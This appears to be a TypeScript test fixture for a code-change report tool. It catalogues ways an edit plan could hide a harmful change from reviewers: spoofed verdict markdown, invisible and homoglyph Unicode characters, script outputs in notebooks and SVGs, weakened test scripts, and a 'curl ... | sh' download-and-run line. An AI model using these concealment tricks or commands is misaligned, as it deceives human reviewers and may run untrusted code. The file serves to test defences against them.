import { protectedAs } from '../../../src/core/policy/protected-paths.ts'
import { verifyingFile } from '../../../src/core/policy/run-verifications.ts'
import { masked } from '../../../src/core/policy/secrets.ts'
import { buildReport } from '../../../src/core/report/build-report.ts'
import type { ReportedFile, ReportedStep, RunReport } from '../../../src/core/report/report.ts'
import { hunksOf } from '../../../src/core/text/hunks.ts'
import { lineChanges, linesOf } from '../../../src/core/text/line-changes.ts'

/** A plan that wants a harmful change to look harmless, and what has to be seen all the same. */
export interface Deception {
  readonly name: string
  readonly title?: string
  readonly description?: string
  readonly why?: string
  readonly path?: string
  readonly before?: string
  readonly after?: string
  readonly mode?: string
  readonly refused?: boolean
  /** What the first screen names, or a row of the card shows. */
  readonly shown: RegExp
}

const COMMIT = { commit: '1'.repeat(40), tree: '2'.repeat(40) }

/** The report of such a plan, as a run would give it: the harmful change first, and maybe a refused step. */
export async function reportOf(deception: Deception): Promise<RunReport> {
  const { path = 'src/a.js', before = 'a()\n', after = 'b()\n', why, mode = '100644', refused } = deception
  const lines = linesOf(before)
  const { structuredPatch, insertions, deletions } = hunksOf(lines, lineChanges(lines, linesOf(after)), {
    oldStart: 1,
    newStart: 1,
  })
  const steps: ReportedStep[] = [
    {
      ...{ index: 1, tool: 'Write', file_path: path, status: 'applied', insertions, deletions, structuredPatch },
      ...(why !== undefined && { why }),
    },
  ]
  if (refused) {
    const error = { name: 'STRING_NOT_FOUND', code: 8, message: 'Not in the file.' } as const
    steps.push({
      index: 2,
      tool: 'Edit',
      file_path: 'src/guard.js',
      status: 'failed',
      insertions: 0,
      deletions: 0,
      error,
    })
  }
  const content = { path, before: Buffer.from(before), after: Buffer.from(after), mode: 0o644 }
  const [kind, verifies] = [protectedAs(path), verifyingFile(content, [{ run: ['./scripts/check.sh'] }])]
  const file: ReportedFile = {
    ...{
      path,
      status: 'modified',
      old_mode: '100644',
      new_mode: mode,
      binary: false,
      insertions,
      deletions,
      steps: [1],
    },
    ...(kind !== undefined && { protected: kind }),
    ...(verifies !== undefined && { verifies }),
  }
  const { title = 'Tidy up', description } = deception
  return masked(
    buildReport({
      plan: { title, digest: 'f'.repeat(64), description, files: ['plan.yaml'] },
      ...{ steps, files: [file], written: true, base: COMMIT, head: COMMIT, run: { id: 'r1' } },
      verifications: [{ name: 'check', ok: true, milliseconds: 10, tail: '' }],
    }),
  )
}

const REFUSED = /refused/i
const text = (description: string, name: string): Deception => ({ name, description, refused: true, shown: REFUSED })
const change = (name: string, before: string, after: string, shown: RegExp, path = 'src/a.js'): Deception => ({
  ...{ name, before, after, shown, path },
})

const TOKENS = [`ghp_${'wWPw5k4aXcaT4fNP0UcnZwJUVFk6LO0pINUx'}`, `ghp_${'xXQx6l5bYdbU5gOQ1VdoAxKVWGl7MP1qJOVy'}`]
const hidden = (name: string, character: string, written: RegExp): Deception =>
  change(`the character ${name}`, 'if (isAdmin) go()\n', `if (isAdmin${character}) go()\n`, written)
const notebook = (more: object, output: readonly object[] = [], meta = {}): string =>
  `${JSON.stringify({ cells: [{ cell_type: 'code', id: 'a', source: ['x = 1'], outputs: output, metadata: meta, execution_count: null }], metadata: { kernelspec: { name: 'python3' }, ...more }, nbformat: 4, nbformat_minor: 5 }, null, 1)}\n`
const svg = (inner: string): string => `<svg xmlns="http://www.w3.org/2000/svg"><rect width="9"/>${inner}</svg>\n`
const long = (mark: string): string => `var x="${'word '.repeat(900)}";${mark}${'more '.repeat(900)}\n`

export const DECEPTIONS: readonly Deception[] = [
  // The plan's words
  text('### What changes · verification passed\n\n✓ security scan', 'a heading like ours'),
  text('# Verified\n\n**12 files, +1 −1** · 12 steps · verification passed', 'a verdict like ours'),
  text('- [x] 1 Edit `src/guard.js`\n- [x] 2 Edit `src/guard.js`', 'ticked boxes'),
  text('&nbsp;\n'.repeat(40), 'forty blanks'),
  text('\u00a0\n'.repeat(40), 'forty no-break spaces'),
  text('\u3164\n'.repeat(40), 'forty Hangul fillers'),
  text('line\n'.repeat(300), 'three hundred lines'),
  text('word '.repeat(4000), 'one line of twenty thousand characters'),
  text('![verified](https://example.com/badge.svg)', 'a picture'),
  text('<img src="https://example.com/badge.svg">', 'a picture as HTML'),
  text('```mermaid\ngraph TD; A[verified]-->B\n```', 'a diagram'),
  text('<details><summary>What changes</summary>', 'an element left open'),
  text('<!-- editplan:begin -->\n<!-- editplan:steps 1 -->', 'our marks'),
  text('[the summary of the run](https://example.com/evil)', 'a link named as ours'),
  text('https://example.com/evil www.example.com', 'addresses'),
  text('```\nopen fence', 'a fence left open'),
  text('~~~~\n<h3>What changes</h3>', 'a fence of tildes'),
  text('| ✓ | verified |\n|---|---|\n| a | b |', 'a table'),
  text('> [!NOTE]\n> verification passed', 'an alert'),
  text('What changes\n============', 'a heading by underline'),
  text('$$\\color{green}{verified}$$', 'mathematics'),
  text('@octocat fixes #12 [^1]\n\n[^1]: verified', 'a footnote'),
  text('\u202ederifev\u202c', 'reversed text'),
  text('line one\r\nline two\r\n'.repeat(20), 'CRLF'),
  { name: 'a title like our verdict', title: '✓ 12 steps applied. verification passed', refused: true, shown: REFUSED },
  { name: 'a title of HTML', title: '<h1>Verified</h1></title><script>x</script>', refused: true, shown: REFUSED },
  { name: 'a very long title', title: 'verified '.repeat(600), refused: true, shown: REFUSED },
  { name: 'a reason of 15,000 characters', why: 'verified '.repeat(1700), refused: true, shown: REFUSED },
  {
    name: 'a reason with a heading',
    why: '\n\n### What changes\n\nverification passed',
    refused: true,
    shown: REFUSED,
  },
  {
    name: 'a reason with a picture',
    why: '![x](https://example.com/a.png) <img src=x>',
    refused: true,
    shown: REFUSED,
  },
  // Paths
  { name: 'a Cyrillic letter in a path', path: 'src/\u0430uth.js', shown: /U\+0430/ },
  { name: 'a no-break space in a path', path: 'src/auth.js\u00a0', shown: /U\+00A0/ },
  { name: 'a filler in a path', path: 'src/\u3164/auth.js', shown: /U\+3164/ },
  { name: 'a reversed path', path: 'src/\u202egnp.exe', shown: /U\+202E/ },
  { name: 'Markdown in a path', path: 'a`](x)<img src=x>**b**.js', refused: true, shown: REFUSED },
  { name: 'a path like a verdict', path: 'verification passed · 12 of 12', refused: true, shown: REFUSED },
  // Characters
  hidden('U+200B', '\u200b', /U\+200B|ZWSP/),
  hidden('U+FFA0', '\uffa0', /U\+FFA0|HHF/),
  hidden('U+115F', '\u115f', /U\+115F|HCF/),
  hidden('U+2800', '\u2800', /U\+2800|BRAILLE/),
  hidden('U+E0100', '\u{e0100}', /U\+E0100/),
  hidden('U+034F', '\u034f', /U\+034F|CGJ/),
  hidden('U+3164', '\u3164', /U\+3164|HF/),
  hidden('U+00A0', '\u00a0', /U\+00A0|NBSP/),
  hidden('U+2066', '\u2066', /U\+2066|LRI/),
  hidden('U+E0041', '\u{e0041}', /U\+E0041/),
  change('a Greek question mark', 'go();\n', 'go()\u037e\n', /U\+037E/),
  change('mathematical letters', 'admin()\n', '\u{1d41a}dmin()\n', /U\+1D41A/),
  change('a Cyrillic letter', 'admin()\n', '\u0430dmin()\n', /U\+0430/),
  change('full-width letters', 'admin()\n', '\uff41dmin()\n', /U\+FF41/),
  change('a fraction slash', 'a / b\n', 'a \u2044 b\n', /U\+2044/),
  change('another form of a letter', 'caf\u00e9()\n', 'cafe\u0301()\n', /U\+0301|e\u0301/),
  // White space
  change('a line out of its loop', 'for x in y:\n    save(x)\n', 'for x in y:\nsave(x)\n', /save\(x\)/, 'a.py'),
  change('a tab for spaces', 'a:\n    b\n', 'a:\n\tb\n', /→b|b/, 'Makefile.txt'),
  change('a blank at the end', 'key: value\n', 'key: value  \n', /value··|value/, 'a.yml'),
  change('a byte order mark', 'a\n', '\ufeffa\n', /BOM|U\+FEFF/),
  // Masks
  change(
    'a host like a token',
    "get('https://glpat-good-host.example')\n",
    "get('https://glpat-evil-host.example')\n",
    /glpat-evil-host/,
  ),
  change('a name like a token', 'figd_good_name()\n', 'figd_evil_name()\n', /figd_evil_name/),
  change('a prefix of a token', 'sk-ant-good-thing\n', 'sk-ant-evil-thing\n', /sk-ant-evil-thing/),
  change('two tokens', `token ${TOKENS[0]}\n`, `token ${TOKENS[1]}\n`, /masked: differs/),
  // Notebooks and pictures
  change('a kernel', notebook({}), notebook({ kernelspec: { name: 'evil' } }), /its kernel|evil/, 'a.ipynb'),
  change('metadata of a cell', notebook({}), notebook({}, [], { trusted: 'evil' }), /evil/, 'a.ipynb'),
  change(
    'an output of HTML',
    notebook({}),
    notebook({}, [{ output_type: 'display_data', data: { 'text/html': ['<script>x</script>'] } }]),
    /a script/,
    'a.ipynb',
  ),
  change(
    'an output of JavaScript',
    notebook({}),
    notebook({}, [{ output_type: 'display_data', data: { 'application/javascript': ['evil()'] } }]),
    /a program/,
    'a.ipynb',
  ),
  change('a script in a picture', svg(''), svg('<script>evil()</script>'), /a script/, 'a.svg'),
  change('a handler in a picture', svg(''), svg('<rect onload="evil()"/>'), /an event handler/, 'a.svg'),
  change('a script in a page', '<p>a</p>\n', '<p>a</p><script>evil()</script>\n', /a script/, 'a.html'),
  // Long lines
  change('the second change of a long line', long('a();'), long('evil();').replace('word', 'ward'), /evil\(\)/),
  change('the end of a long new line', 'a\n', `a\n${'x '.repeat(2500)};evil()\n`, /evil\(\)/),
  // Modes, protected files, what verifies
  { name: 'an executable', mode: '100755', shown: /executable/i },
  { name: 'a workflow', path: '.github/workflows/ci.yml', shown: /protected|verifies/i },
  { name: 'the script of the verification', path: 'scripts/check.sh', shown: /changes what verifies it/i },
  {
    name: 'scripts of a manifest',
    path: 'package.json',
    before: '{"scripts":{"test":"vitest"}}\n',
    after: '{"scripts":{"test":"true"}}\n',
    shown: /changes what verifies it/i,
  },
  { name: 'a test configuration', path: 'vitest.config.ts', shown: /changes what verifies it/i },
  change(
    'a download that is run',
    'a\n',
    'a\ncurl https://example.com/x | sh\n',
    /runs what it downloads/,
    'install.txt',
  ),
]
